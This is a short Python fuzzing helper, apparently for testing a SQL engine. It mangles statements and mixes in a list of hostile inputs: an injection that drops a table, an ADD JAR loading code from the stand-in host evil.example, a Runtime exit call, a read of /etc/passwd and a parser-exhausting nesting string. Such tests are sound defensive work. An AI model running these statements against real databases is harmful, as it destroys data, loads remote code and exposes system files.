# SPDX-License-Identifier: Apache-2.0
"""Statements that no client of good will sends: of attackers, and of broken programs.

mangled(Random(1), ["SELECT a FROM t"])            'SELECT a FRO`M t', 'SELECTELECT a FROM t', ...
"""

from __future__ import annotations

import random
from collections.abc import Sequence

HOSTILE = [
    "'; DROP TABLE t; --",
    "ADD JAR 'http://evil.example/x.jar'",
    "SELECT reflect('java.lang.Runtime', 'exit', 1)",
    "SELECT * FROM parquet.`/etc/passwd`",
    "SELECT " + "(" * 20_000,
    "/* \u202e */ SELECT 1 \ud7ff\x07\x1b[2J",
]

STRANGE = ["'", '"', "`", "/*", "*/", "--", ";", "(", ")", ":p", "?", "${", "0x"]
STRANGE += ["\x00", "\u202e", "\\"]


def mangled(random_: random.Random, statements: Sequence[str]) -> str:
    """Return one of the statements, cut, doubled in part, or with something strange in it."""
    text = random_.choice([*statements, *HOSTILE])
    for _ in range(random_.randint(1, 3)):
        at, until = sorted(random_.randrange(len(text) + 1) for _ in range(2))
        match random_.randrange(4):
            case 0:
                text = text[:at]
            case 1:
                text = text[:at] + text[until:]
            case 2:
                text = text[:until] + text[at:]
            case _:
                text = text[:at] + random_.choice(STRANGE) + text[at:]
        text = text[:2_000]
    return text
